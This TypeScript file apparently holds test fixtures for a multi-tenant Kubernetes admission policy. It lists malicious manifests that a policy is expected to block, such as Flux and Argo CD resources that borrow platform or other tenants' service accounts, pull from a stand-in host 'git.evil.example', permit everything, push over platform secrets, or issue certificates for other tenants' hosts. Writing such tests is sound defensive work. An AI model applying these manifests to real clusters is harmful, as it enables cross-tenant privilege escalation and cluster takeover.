import { OTHER, RELEASES, type Attack } from './attack';
import { held, object } from './held';

const FLUX = 'toolkit.fluxcd.io';
const releaseOf = (serviceAccountName: string, namespace: string) => ({
  spec: {
    interval: '1h',
    chartRef: { kind: 'OCIRepository', name: 'web' },
    targetNamespace: namespace,
    storageNamespace: namespace,
    serviceAccountName,
  },
});

const engines: readonly Attack[] = [
  held(
    "a HelmRelease with another tenant's account",
    "the other tenant's rights",
    object(`helm.${FLUX}/v2`, 'HelmRelease', releaseOf(OTHER, OTHER), { namespace: RELEASES }),
  ),
  held(
    'a HelmRelease in its own namespace',
    "the engine's default account",
    object(`helm.${FLUX}/v2`, 'HelmRelease', releaseOf('default', 'kube-system')),
  ),
  held(
    'a Kustomization with the account of the platform',
    'the whole cluster',
    object(
      `kustomize.${FLUX}/v1`,
      'Kustomization',
      {
        spec: {
          interval: '1h',
          prune: true,
          path: './',
          sourceRef: { kind: 'GitRepository', name: 'web' },
          serviceAccountName: 'kustomize-controller',
        },
      },
      { namespace: 'flux-system' },
    ),
  ),
  held(
    'a GitRepository',
    'sources that no platform chose',
    object(`source.${FLUX}/v1`, 'GitRepository', {
      spec: { interval: '1h', url: 'https://git.evil.example/a.git' },
    }),
  ),
  held(
    'an Application of the project of the platform',
    'the whole cluster',
    object(
      'argoproj.io/v1alpha1',
      'Application',
      {
        spec: {
          project: 'platform',
          source: { repoURL: 'https://git.evil.example/a.git', path: '.' },
          destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' },
        },
      },
      { namespace: 'argocd' },
    ),
  ),
  held(
    'an AppProject that permits everything',
    'the whole cluster',
    object(
      'argoproj.io/v1alpha1',
      'AppProject',
      {
        spec: {
          sourceRepos: ['*'],
          destinations: [{ server: '*', namespace: '*' }],
          clusterResourceWhitelist: [{ group: '*', kind: '*' }],
        },
      },
      { namespace: 'argocd', name: 'acme' },
    ),
  ),
  held(
    'an ApplicationSet',
    'Applications of every project',
    object(
      'argoproj.io/v1alpha1',
      'ApplicationSet',
      {
        spec: {
          generators: [{ list: { elements: [{}] } }],
          template: {
            metadata: { name: 'web' },
            spec: {
              project: 'platform',
              source: { repoURL: 'https://git.evil.example/a.git', path: '.' },
              destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' },
            },
          },
        },
      },
      { namespace: 'argocd' },
    ),
  ),
];

const ESO = 'external-secrets.io';
const vault = {
  provider: { vault: { server: 'https://vault.example.com', auth: { tokenSecretRef: { name: 'a' } } } },
};

const operators: readonly Attack[] = [
  held(
    'a ClusterSecretStore',
    'a store for every namespace',
    object(`${ESO}/v1`, 'ClusterSecretStore', { spec: vault }),
  ),
  held('a SecretStore', "an account of the operator's", object(`${ESO}/v1`, 'SecretStore', { spec: vault })),
  held(
    'a ClusterExternalSecret',
    "Secrets in every tenant's namespace",
    object(`${ESO}/v1`, 'ClusterExternalSecret', {
      spec: {
        namespaceSelectors: [{}],
        externalSecretSpec: {
          secretStoreRef: { name: 'platform', kind: 'ClusterSecretStore' },
          data: [{ secretKey: 'a', remoteRef: { key: 'a' } }],
        },
      },
    }),
  ),
  held(
    "a PushSecret into the platform's store",
    "the platform's credentials, replaced",
    object(`${ESO}/v1alpha1`, 'PushSecret', {
      spec: {
        secretStoreRefs: [{ name: 'platform', kind: 'ClusterSecretStore' }],
        selector: { secret: { name: 'a' } },
        data: [{ match: { secretKey: 'a', remoteRef: { remoteKey: 'a' } } }],
      },
    }),
  ),
  held(
    'an Issuer',
    'a certificate of any name, where ingresses trust it',
    object('cert-manager.io/v1', 'Issuer', { spec: { selfSigned: {} } }),
  ),
  held(
    'a ClusterIssuer',
    "every tenant's certificates",
    object('cert-manager.io/v1', 'ClusterIssuer', { spec: { selfSigned: {} } }),
  ),
  held(
    'a CertificateRequest, which no policy of Certificates judges',
    "a certificate for another tenant's host",
    object('cert-manager.io/v1', 'CertificateRequest', {
      spec: { issuerRef: { name: 'letsencrypt', kind: 'ClusterIssuer' }, request: 'YQ==' },
    }),
  ),
  held(
    'a PrometheusRule',
    "the load of Prometheus, and others' alerts",
    object('monitoring.coreos.com/v1', 'PrometheusRule', {
      spec: { groups: [{ name: 'a', rules: [{ record: 'a', expr: 'up' }] }] },
    }),
  ),
  held(
    'a database that its product does not declare',
    "a Role and pods, with the rights of the database's operator",
    object('postgresql.cnpg.io/v1', 'Cluster', { spec: { instances: 1, storage: { size: '1Gi' } } }),
  ),
  held(
    'a SealedSecret',
    "a Secret with the controller's rights",
    object('bitnami.com/v1alpha1', 'SealedSecret', { spec: { encryptedData: { a: 'AgA=' } } }),
  ),
  held(
    'a CustomResourceDefinition',
    'kinds of the whole cluster',
    object(
      'apiextensions.k8s.io/v1',
      'CustomResourceDefinition',
      {
        spec: {
          group: 'evil.example',
          names: { kind: 'Loot', plural: 'loots' },
          scope: 'Cluster',
          versions: [
            { name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } },
          ],
        },
      },
      { name: 'loots.evil.example' },
    ),
  ),
];

/** What operators of the cluster would do for it. */
export const OPERATORS: readonly Attack[] = [...engines, ...operators];
